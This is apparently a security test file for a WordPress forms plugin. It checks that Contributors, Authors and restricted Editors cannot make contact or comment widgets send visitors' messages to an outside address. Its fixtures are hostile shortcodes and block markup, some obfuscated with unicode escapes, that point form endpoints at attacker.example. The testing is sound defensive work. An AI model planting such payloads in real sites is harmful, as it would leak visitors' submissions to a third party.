// Who may point a form elsewhere: a Contributor's, an Author's and (on a network) an Editor's post
// with a hostile shortcode sends visitors' words to the site and nowhere else; an Administrator's
// may name another address. Posts are written as those people write them: logged in, through the
// REST API the block editor uses, with WordPress's own kses on save.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { site, send, launch, visit, login, php } from './helpers.mjs';

const ATTACKER = 'attacker.example';
const HOSTILE = [
  `[firm_contact_form source="rest" endpoint="https://${ATTACKER}/collect"]`,
  `[firm_contact_form source="mailto" to="collect@${ATTACKER}" encoding="form" keep-drafts="device"]`,
  `[firm_comments source="rest" endpoint="https://${ATTACKER}/comments" keep_drafts="device"]`,
].join('\n\n');

let browser;
const people = {};
before(async () => {
  browser = await launch();
  // Only the shortcodes' elements on these pages, not the comment-form replacement.
  php(`$o = get_option('firm_widgets'); $o['replace_comments'] = false; update_option('firm_widgets', $o); return true;`);
  for (const role of ['contributor', 'author', 'editor']) {
    people[role] = php(
      `$p = wp_generate_password(16, false); $id = wp_insert_user(array('user_login' => $input, 'user_pass' => $p, 'role' => $input, 'user_email' => $input . '@example.test', 'display_name' => ucfirst($input))); return array('id' => $id, 'password' => $p, 'login' => $input);`,
      role,
    );
  }
});
after(async () => {
  await browser?.close();
});

/**
 * Logs in as `who` and creates (or, with `id`, updates) a post through /wp/v2/posts (or a synced
 * pattern through /wp/v2/blocks), as the block editor does. Resolves to the id, or with `answer`
 * to WordPress's whole answer.
 */
async function write(who, { id, content, status, type = 'posts', answer = false }) {
  const page = await login(browser, who.login, who.password);
  try {
    const nonce = await page.evaluate(async (url) => (await fetch(url)).text(), `${site.url}/wp-admin/admin-ajax.php?action=rest-nonce`);
    const route = `${site.url}/?rest_route=/wp/v2/${type}${id ? `/${id}` : ''}`;
    const res = await page.evaluate(
      async (url, nonce, body) => {
        const r = await fetch(url, { method: 'POST', headers: { 'Content-Type': 'application/json', 'X-WP-Nonce': nonce }, body: JSON.stringify(body) });
        return { status: r.status, json: await r.json() };
      },
      route,
      nonce,
      { title: `${who.login}'s post`, content, ...(status ? { status } : {}) },
    );
    if (answer) return res;
    assert.ok(res.status === 200 || res.status === 201, JSON.stringify(res));
    return res.json.id;
  } finally {
    await page.leave();
  }
}

const tags = (html) => html.match(/<firm-(contact-form|comments)[^>]*>/g) ?? [];

/** The post as a visitor gets it: no attacker address anywhere, every form and thread (`count` of them) on the site. */
async function assertSiteOnly(id, count = 3) {
  const html = (await send(`${site.url}/?p=${id}`)).body;
  const found = tags(html);
  assert.equal(found.length, count, html.slice(0, 300));
  assert.ok(!html.includes(ATTACKER), `no ${ATTACKER} in the page: ${found.join(' ')}`);
  for (const tag of found) {
    assert.match(tag, / source="wordpress"/);
    assert.ok(tag.includes(` endpoint="${site.url}/"`), tag);
    assert.doesNotMatch(tag, / to=| encoding=| keep-drafts=/);
  }
  // And in a visitor's browser, where the element reads its attributes.
  const visitor = await visit(browser, `/?p=${id}`);
  try {
    const endpoints = await visitor.$$eval('firm-contact-form, firm-comments', (els) => els.map((el) => `${el.source} ${el.endpoint} ${el.to ?? ''}`.trim()));
    assert.deepEqual(endpoints, Array(count).fill(`wordpress ${site.url}/`));
  } finally {
    await visitor.leave();
  }
}

test("a Contributor's post, once an editor publishes it, sends visitors' words only to the site", async () => {
  const id = await write(people.contributor, { content: HOSTILE, status: 'pending' });
  assert.equal(php(`return get_post_status($input);`, id), 'pending', 'a contributor cannot publish');
  php(`wp_update_post(array('ID' => $input, 'post_status' => 'publish')); return true;`, id);
  await assertSiteOnly(id);
});

test("an Author's published post sends visitors' words only to the site", async () => {
  const id = await write(people.author, { content: HOSTILE, status: 'publish' });
  assert.equal(php(`return get_post_status($input);`, id), 'publish');
  await assertSiteOnly(id);
});

test("an Administrator's post may name another address", async () => {
  const id = await write({ ...site.admin }, { content: HOSTILE, status: 'publish' });
  const found = tags((await send(`${site.url}/?p=${id}`)).body);
  assert.deepEqual(found, [
    `<firm-contact-form source="rest" endpoint="https://${ATTACKER}/collect">`,
    `<firm-contact-form source="mailto" endpoint="${site.url}/" to="collect@${ATTACKER}" encoding="form" keep-drafts="device">`,
    `<firm-comments source="rest" endpoint="https://${ATTACKER}/comments" post-id="${id}" keep-drafts="device">`,
  ]);
});

test("an Editor without unfiltered_html (as on a network) who edits an Administrator's post cannot add an address", async () => {
  const id = await write({ ...site.admin }, { content: '[firm_contact_form]', status: 'publish' });
  php(`get_role('editor')->remove_cap('unfiltered_html'); return true;`);
  try {
    await write(people.editor, { id, content: HOSTILE });
    assert.equal(php(`return (int) get_post_field('post_author', $input);`, id), site.admin.id, "still the Administrator's post");
    await assertSiteOnly(id);
  } finally {
    php(`get_role('editor')->add_cap('unfiltered_html'); return true;`);
  }
});

// Synced patterns (wp_block posts) are shown inside other people's posts: the pattern's own author
// decides, not the post's, and whoever lacks unfiltered_html saves no address in any post type.
const HOSTILE_BLOCKS = [
  `<!-- wp:firm-widgets/contact-form {"source":"rest","endpoint":"https://${ATTACKER}/block","keepDrafts":"device"} /-->`,
  `<!-- wp:firm-widgets/comments {"source":"rest","\\u0065ndpoint":"https://${ATTACKER}/block-comments","keep_drafts":"device"} /-->`,
].join('\n\n');
const HOSTILE_PATTERN = `${HOSTILE}\n\n[firm_contact_form SOURCE='rest' Endpoint=https://${ATTACKER}/upper]\n\n${HOSTILE_BLOCKS}`;
const PATTERN_TAGS = 6;

/** An Administrator's published post that shows synced pattern `ref`. */
function adminPostShowing(ref) {
  return php(
    `wp_set_current_user($input['admin']); return wp_insert_post(array('post_title' => 'Shows a pattern', 'post_status' => 'publish', 'post_content' => '<!-- wp:block {"ref":' . (int) $input['ref'] . '} /-->'));`,
    { admin: site.admin.id, ref },
  );
}

/** A synced pattern stored as it was written, without the plugin's save filter (saved before it existed). */
function storedPattern(author, content) {
  const id = php(`return wp_insert_post(array('post_type' => 'wp_block', 'post_title' => 'Old pattern', 'post_status' => 'publish', 'post_author' => $input));`, author.id);
  site.sql(`UPDATE wp_posts SET post_content = '${content.replace(/\\/g, '\\\\').replace(/'/g, "\\'")}' WHERE ID = ${id}`);
  php(`clean_post_cache($input); return true;`, id);
  return id;
}

const storedContent = (id) => php(`return get_post_field('post_content', $input, 'raw');`, id);

test("an Author's synced pattern with a hostile endpoint, shown in an Administrator's post, sends visitors' words only to the site", async () => {
  const ref = await write(people.author, { type: 'blocks', content: HOSTILE_PATTERN, status: 'publish' });
  assert.equal(php(`return get_post_type($input);`, ref), 'wp_block');
  const saved = storedContent(ref);
  assert.ok(!saved.includes(ATTACKER), `saved without the addresses: ${saved}`);
  assert.match(saved, /\[firm_contact_form\s*\]/, 'the shortcodes stay');
  assert.match(saved, /wp:firm-widgets\/comments/, 'the blocks stay');
  await assertSiteOnly(adminPostShowing(ref), PATTERN_TAGS);
});

test("a Contributor's synced pattern (one of their own drafts) is saved without addresses, and shows none once published", async () => {
  // WordPress lets only people who publish create synced patterns…
  const refused = await write(people.contributor, { type: 'blocks', content: HOSTILE_PATTERN, status: 'draft', answer: true });
  assert.equal(refused.status, 403, JSON.stringify(refused));
  // …but a Contributor still edits a draft pattern of their own (made while they were an Author).
  const ref = php(`return wp_insert_post(array('post_type' => 'wp_block', 'post_title' => 'Mine', 'post_status' => 'draft', 'post_author' => $input, 'post_content' => '[firm_contact_form]'));`, people.contributor.id);
  await write(people.contributor, { type: 'blocks', id: ref, content: HOSTILE_PATTERN });
  const saved = storedContent(ref);
  assert.ok(!saved.includes(ATTACKER), `saved without the addresses: ${saved}`);
  site.sql(`UPDATE wp_posts SET post_status = 'publish' WHERE ID = ${ref}`);
  php(`clean_post_cache($input); return true;`, ref);
  await assertSiteOnly(adminPostShowing(ref), PATTERN_TAGS);
});

test("a Contributor's and an Author's synced pattern saved with addresses before this check still shows none in an Administrator's post", async () => {
  for (const who of [people.contributor, people.author]) {
    const ref = storedPattern(who, HOSTILE_PATTERN);
    assert.ok(storedContent(ref).includes(ATTACKER), 'the hostile content is stored');
    await assertSiteOnly(adminPostShowing(ref), PATTERN_TAGS);
  }
});

test("an Administrator's synced pattern keeps its addresses, in an Author's post too", async () => {
  const ref = await write({ ...site.admin }, { type: 'blocks', content: HOSTILE_BLOCKS, status: 'publish' });
  const post = await write(people.author, { content: `<!-- wp:block {"ref":${ref}} /-->`, status: 'publish' });
  const found = tags((await send(`${site.url}/?p=${post}`)).body);
  assert.deepEqual(found, [
    `<firm-contact-form source="rest" endpoint="https://${ATTACKER}/block" class="wp-block-firm-widgets-contact-form" keep-drafts="device">`,
    `<firm-comments source="rest" endpoint="https://${ATTACKER}/block-comments" post-id="${post}" class="wp-block-firm-widgets-comments" keep-drafts="device">`,
  ]);
});

// Another block's attribute printed as text (the Search block's label, through wp_kses_post) is
// run by the_content's do_shortcode(): its shortcodes lose their addresses on save too, also
// when the JSON writes `[` as `\u005b`.
const SEARCH_LABEL = `<!-- wp:search {"label":"\\u005bfirm_contact_form source=rest endpoint=https://${ATTACKER}/search]","buttonText":"Search"} /-->`;

test("an Editor without unfiltered_html cannot hide a shortcode with an address in another block's attribute", async () => {
  const id = await write({ ...site.admin }, { content: '<!-- wp:paragraph --><p>Hello</p><!-- /wp:paragraph -->', status: 'publish' });
  php(`get_role('editor')->remove_cap('unfiltered_html'); return true;`);
  try {
    await write(people.editor, { id, content: SEARCH_LABEL });
    const saved = storedContent(id);
    assert.ok(!saved.includes(ATTACKER), `saved without the address: ${saved}`);
    assert.ok(php(`return (int) get_post_meta($input, '_firm_widgets_untrusted_editor', true);`, id) === people.editor.id, 'the Editor is noted');
    await assertSiteOnly(id, 1);
  } finally {
    php(`get_role('editor')->add_cap('unfiltered_html'); return true;`);
  }
});

test('the save-time strip reads every block\'s decoded attributes, nested blocks too', () => {
  const content = [
    '<!-- wp:group --><div class="wp-block-group">',
    `<!-- wp:search {"label":"\\u005bfirm_contact_form source=rest endpoint=https://${ATTACKER}/a]"} /-->`,
    `<!-- wp:some/block {"deep":{"list":["\\u005bfirm_comments keep_drafts=device endpoint=\\u0022https://${ATTACKER}/b\\u0022]"]}} /-->`,
    '</div><!-- /wp:group -->',
  ].join('');
  const out = php(
    `$safe = firm_widgets_strip_addresses($input);
     $strings = array();
     $walk = function ($blocks) use (&$walk, &$strings) {
       foreach ($blocks as $b) {
         array_walk_recursive($b['attrs'], function ($v) use (&$strings) { if (is_string($v)) { $strings[] = $v; } });
         $walk($b['innerBlocks']);
       }
     };
     $walk(parse_blocks($safe));
     return $strings;`,
    content,
  );
  assert.deepEqual(out, ['[firm_contact_form ]', '[firm_comments ]']);
});

// In a Query Loop a block's context names each listed post; the post holding the loop is judged too.
test("a Contributor's firm block in a Query Loop over an Administrator's posts keeps no address", async () => {
  const token = `loop${Date.now()}`;
  php(
    `wp_set_current_user($input['admin']);
     foreach (array(1, 2) as $n) { wp_insert_post(array('post_title' => $input['token'] . " $n", 'post_status' => 'publish', 'post_content' => 'Listed')); }
     return true;`,
    { admin: site.admin.id, token },
  );
  const loop =
    `<!-- wp:query {"queryId":7,"query":{"perPage":2,"pages":0,"offset":0,"postType":"post","order":"desc","orderBy":"date","author":"${site.admin.id}","search":"${token}","exclude":[],"sticky":"","inherit":false}} -->` +
    `<div class="wp-block-query"><!-- wp:post-template --><!-- wp:firm-widgets/contact-form {"source":"rest","endpoint":"https://${ATTACKER}/loop"} /--><!-- /wp:post-template --></div><!-- /wp:query -->`;
  // The Contributor's post as stored before the save-time strip existed, then published.
  const theirs = storedPattern(people.contributor, loop);
  site.sql(`UPDATE wp_posts SET post_type = 'post' WHERE ID = ${theirs}`);
  php(`clean_post_cache($input); return true;`, theirs);
  assert.ok(storedContent(theirs).includes(ATTACKER), 'the hostile content is stored');
  const found = tags((await send(`${site.url}/?p=${theirs}`)).body);
  assert.ok(found.length >= 2, `the loop lists the Administrator's posts: ${found.join(' ')}`);
  assert.ok(found.every((tag) => !tag.includes(ATTACKER)), found.join(' '));
  // The same loop in an Administrator's post keeps the address: the listing above did run.
  const mine = php(`wp_set_current_user($input['admin']); return wp_insert_post(array('post_title' => 'Admin loop', 'post_status' => 'publish', 'post_content' => $input['loop']));`, { admin: site.admin.id, loop });
  const kept = tags((await send(`${site.url}/?p=${mine}`)).body);
  assert.ok(kept.length >= 2 && kept.every((tag) => tag.includes(`https://${ATTACKER}/loop`)), kept.join(' '));
});

test('a block widget saved by someone without unfiltered_html keeps no address; an untouched one keeps its own', () => {
  const widget = (path) => `<!-- wp:firm-widgets/contact-form {"source":"rest","endpoint":"https://${ATTACKER}/${path}"} /-->`;
  const saved = php(
    `$before = get_option('widget_block');
     wp_set_current_user($input['admin']);
     update_option('widget_block', array(90 => array('content' => $input['admins']), '_multiwidget' => 1));
     wp_set_current_user($input['author']);
     $all = get_option('widget_block');
     $all[91] = array('content' => $input['authors']);
     update_option('widget_block', $all);
     $after = get_option('widget_block');
     update_option('widget_block', $before);
     return array($after[90]['content'], $after[91]['content']);`,
    { admin: site.admin.id, author: people.author.id, admins: widget('admin'), authors: widget('author') },
  );
  assert.equal(saved[0], widget('admin'));
  assert.ok(!saved[1].includes(ATTACKER), saved[1]);
  assert.match(saved[1], /wp:firm-widgets\/contact-form/);
});
